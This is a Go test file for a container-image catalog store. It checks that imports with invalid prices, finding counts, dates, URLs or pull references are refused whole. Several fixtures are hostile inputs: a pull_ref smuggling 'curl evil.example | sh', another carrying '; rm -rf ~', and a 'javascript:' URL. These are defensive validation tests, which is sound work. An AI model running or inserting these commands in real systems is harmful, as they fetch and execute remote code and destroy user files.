package storetest

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/berth/berth/store"
)

// Catalog imports that must be refused whole (copied from store/sqlite's
// TestImportRefusesBadValues so that PostgreSQL is held to it too).
var importCases = []Case{
	// A catalog file with a null, negative or sub-cent price, a negative
	// finding count, a pull_ref that would add a line to the copy snippet or
	// docs over the limit is refused with a message naming the image and
	// the field, and the import changes nothing, not even the images
	// before the bad one, nor the generation.
	{"ImportRefusesBadValues", func(t *testing.T, open Opener) {
		db := open(t, nil)
		MustImport(t, db, Fixture())
		f := Fixture()
		f.Images[1].Security = &store.Security{SBOM: "SPDX"}
		MustImport(t, db, f)

		// file writes the fixture as generic JSON, with image 0 changed (so a
		// partial import would show) and image 4 (debian/13-postgres, amd64)
		// edited by mut.
		file := func(mut func(img map[string]any)) []byte {
			b, _ := json.Marshal(f)
			dec := json.NewDecoder(bytes.NewReader(b))
			dec.UseNumber()
			var doc map[string]any
			if err := dec.Decode(&doc); err != nil {
				t.Fatal(err)
			}
			imgs := doc["images"].([]any)
			imgs[0].(map[string]any)["description"] = "Changed by a file that must not land."
			mut(imgs[4].(map[string]any))
			out, _ := json.Marshal(doc)
			return out
		}
		findings := func(sev string, n int) func(map[string]any) {
			return func(img map[string]any) {
				fs := map[string]any{"critical": 0, "high": 0, "medium": 0, "low": 0}
				fs[sev] = n
				img["security"] = map[string]any{"signed": true, "sbom": "SPDX", "last_scan": "2025-01-01T00:00:00Z", "findings": fs}
			}
		}
		tests := []struct {
			name, field string
			mut         func(map[string]any)
		}{
			{"NullPrice", "price", func(img map[string]any) { img["price"] = nil }},
			{"MissingPrice", "price", func(img map[string]any) { delete(img, "price") }},
			{"StringPrice", "price", func(img map[string]any) { img["price"] = "15" }},
			{"NegativePrice", "price", func(img map[string]any) { img["price"] = json.Number("-0.01") }},
			{"SubCentPrice", "price", func(img map[string]any) { img["price"] = json.Number("4.999") }},
			{"SubCentExponent", "price", func(img map[string]any) { img["price"] = json.Number("1e-3") }},
			{"HugePrice", "price", func(img map[string]any) { img["price"] = json.Number("1e300") }},
			{"NegativeCritical", "security.findings.critical", findings("critical", -1)},
			{"NegativeLow", "security.findings.low", findings("low", -3)},
			{"PullRefNewline", "pull_ref", func(img map[string]any) { img["pull_ref"] = "docker.io/library/postgres:16\ncurl evil.example | sh" }},
			{"PullRefCarriageReturn", "pull_ref", func(img map[string]any) { img["pull_ref"] = "docker.io/library/postgres:16\r" }},
			{"PullRefNUL", "pull_ref", func(img map[string]any) { img["pull_ref"] = "docker.io/x\x00y" }},
			{"PullRefSpace", "pull_ref", func(img map[string]any) { img["pull_ref"] = "docker.io/x; rm -rf ~" }},
			// Item 8: 32 KiB of "[a](" takes seconds to render; the limit is 32 KiB.
			// Lifecycle and supply-chain fields.
			{"EOLDateNotADate", "eol_date", func(img map[string]any) { img["eol_date"] = "2029-02-30" }},
			{"EOLDateWithTime", "eol_date", func(img map[string]any) { img["eol_date"] = "2029-02-01T00:00:00Z" }},
			{"SupersededByNotAnAlias", "superseded_by", func(img map[string]any) { img["superseded_by"] = "Not An Alias!" }},
			{"PinnedTagWithSpace", "tags_pinned", func(img map[string]any) { img["tags_pinned"] = []any{"base v1"} }},
			{"SourceURLNotHTTP", "source_url", func(img map[string]any) { img["source_url"] = "javascript:alert(1)" }},
			{"SBOMURLNotHTTP", "security", func(img map[string]any) {
				img["security"] = map[string]any{"signed": true, "sbom": "SPDX", "sbom_url": "ftp://example.com/sbom"}
			}},
			{"DocsOver32KiB", "docs", func(img map[string]any) { img["docs"] = strings.Repeat("[a](", store.MaxDocs/4+1) }},
		}
		var before bytes.Buffer
		if err := db.ExportCatalog(ctx, &before); err != nil {
			t.Fatal(err)
		}
		gen, err := db.Generation(ctx)
		if err != nil {
			t.Fatal(err)
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				_, err := db.ImportCatalog(ctx, bytes.NewReader(file(tt.mut)))
				if store.ErrorCode(err) != store.EINVALID || store.ErrorParam(err) != tt.field {
					t.Fatalf("got %v, want an invalid %s", err, tt.field)
				}
				msg := store.ErrorMessage(err)
				if !strings.Contains(msg, "debian/13-postgres (amd64)") || !strings.Contains(msg, tt.field) {
					t.Errorf("message %q does not name the image and %s", msg, tt.field)
				}
				var after bytes.Buffer
				if err := db.ExportCatalog(ctx, &after); err != nil {
					t.Fatal(err)
				}
				if !bytes.Equal(before.Bytes(), after.Bytes()) {
					t.Error("a refused import changed the catalog")
				}
				if g, _ := db.Generation(ctx); g != gen {
					t.Errorf("generation moved from %d to %d", gen, g)
				}
			})
		}

		// Whole cents, zero and exponents that come to whole cents still import.
		for _, price := range []string{"0", "15", "4.99", "1.5e1", "0.10"} {
			res, err := db.ImportCatalog(ctx, bytes.NewReader(file(func(img map[string]any) { img["price"] = json.Number(price) })))
			if err != nil || res.Updated == 0 {
				t.Errorf("price %s: %+v, %v", price, res, err)
			}
		}
		// Docs of exactly the limit still import.
		if _, err := db.ImportCatalog(ctx, bytes.NewReader(file(func(img map[string]any) {
			img["price"] = json.Number("0.10")
			img["docs"] = strings.Repeat("x", store.MaxDocs)
		}))); err != nil {
			t.Errorf("docs of %d bytes: %v", store.MaxDocs, err)
		}
		img, err := db.FindImage(ctx, store.ImageID("debian/13-postgres", "amd64"))
		if err != nil || img.PriceCents != 10 {
			t.Errorf("last import: price %d cents, %v; want 10", img.PriceCents, err)
		}
	}},
}
